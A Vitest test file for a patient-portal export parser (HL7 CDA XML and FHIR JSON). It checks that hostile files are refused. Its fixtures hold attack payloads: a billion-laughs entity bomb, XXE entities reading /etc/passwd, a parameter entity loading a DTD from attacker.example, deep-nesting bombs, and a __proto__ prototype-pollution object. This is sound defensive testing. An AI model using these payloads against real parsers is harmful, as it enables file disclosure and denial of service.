import { describe, expect, it } from 'vitest';
import { AppError } from '../../../main/core/errors.ts';
import { parsePortalExport } from '../../../main/core/portal/portal-export.ts';
import { MAX_PORTAL_BYTES } from '../../../main/core/portal/text-decode.ts';

const bytes = (text: string): Uint8Array => new TextEncoder().encode(text);

/** Runs the parser and returns the AppError it throws (failing the test when it does not throw one). */
function refusal(input: Uint8Array): AppError {
  try {
    parsePortalExport(input);
  } catch (error) {
    if (error instanceof AppError) return error;
    throw error;
  }
  throw new Error('expected the file to be refused');
}

const minimalCda = (inner: string, prolog = ''): string =>
  `<?xml version="1.0"?>${prolog}<ClinicalDocument xmlns="urn:hl7-org:v3"><code code="34133-9"/><title>${inner}</title>` +
  '<recordTarget><patientRole><patient><name><given>Ann</given><family>Example</family></name></patient></patientRole></recordTarget>' +
  '<component><structuredBody><component><section><title>Notes</title><text>' +
  inner +
  '</text></section></component></structuredBody></component></ClinicalDocument>';

describe('hostile XML', () => {
  it('refuses a billion-laughs entity bomb without expanding it', () => {
    const levels = Array.from({ length: 10 }, (_, i) =>
      i === 0 ? '<!ENTITY lol0 "lol">' : `<!ENTITY lol${i} "${`&lol${i - 1};`.repeat(10)}">`,
    ).join('');
    const error = refusal(bytes(minimalCda('&lol9;', `<!DOCTYPE ClinicalDocument [${levels}]>`)));
    expect(error.code).toBe('FILE_REFUSED');
    expect(error.message).toMatch(/entities/);
  });

  it('refuses an external entity that would read /etc/passwd', () => {
    const prolog = '<!DOCTYPE ClinicalDocument [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>';
    const error = refusal(bytes(minimalCda('&xxe;', prolog)));
    expect(error.code).toBe('FILE_REFUSED');
    expect(error.message).not.toMatch(/root:|passwd/);
  });

  it('refuses a parameter entity hidden in a lower-case doctype', () => {
    const prolog =
      '<!doctype ClinicalDocument [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>';
    expect(refusal(bytes(minimalCda('x', prolog))).code).toBe('FILE_REFUSED');
  });

  it('never expands an entity reference, even with an external DTD named', () => {
    const prolog = '<!DOCTYPE ClinicalDocument SYSTEM "file:///etc/passwd">';
    const e = parsePortalExport(bytes(minimalCda('before &amp; &#65; &xxe; after', prolog)));
    expect(e.rendering.text).toContain('before & A &xxe; after');
    expect(e.rendering.text).not.toMatch(/root:/);
    expect(e.rendering.html).toContain('before &amp; A &amp;xxe; after');
  });

  it('refuses XML nested deeper than any medical record', () => {
    const deep = '<a>'.repeat(5000) + '</a>'.repeat(5000);
    expect(refusal(bytes(minimalCda(deep))).code).toBe('FILE_REFUSED');
  });

  it('reports malformed XML in plain words with its line', () => {
    const error = refusal(
      bytes('<ClinicalDocument xmlns="urn:hl7-org:v3">\n<title>Cut short</title>\n<component>'),
    );
    expect(error.code).toBe('INVALID_INPUT');
    expect(error.message).toMatch(/not valid XML \(the problem is near line \d+\)/);
    expect(error.message).not.toMatch(/Cut short/);
  });
});

describe('hostile and broken files in general', () => {
  it('refuses files over the size limit before reading them', () => {
    const big = new Uint8Array(MAX_PORTAL_BYTES + 1).fill(0x20);
    big[0] = 0x3c; // '<'
    const error = refusal(big);
    expect(error.code).toBe('FILE_REFUSED');
    expect(error.message).toMatch(/50 MB/);
  });

  it('refuses JSON nested deeper than any health record', () => {
    const error = refusal(bytes('['.repeat(100_000) + ']'.repeat(100_000)));
    expect(error.code).toBe('FILE_REFUSED');
  });

  it('reports invalid JSON in plain words', () => {
    const error = refusal(bytes('{"resourceType": "Bundle",\n "entry": [\n'));
    expect(error.code).toBe('INVALID_INPUT');
    expect(error.message).toMatch(/not valid JSON/);
  });

  it('refuses files that are neither XML nor JSON, and empty files', () => {
    expect(refusal(new Uint8Array([0x25, 0x50, 0x44, 0x46, 0x2d, 0x31])).message).toMatch(
      /not a patient-portal export/,
    );
    expect(refusal(bytes('  \n')).message).toMatch(/empty/);
  });

  it('does not let a FHIR resource pollute object prototypes', () => {
    parsePortalExport(
      bytes('{"resourceType":"Patient","__proto__":{"polluted":true},"name":[{"given":["A"],"family":"B"}]}'),
    );
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });
});
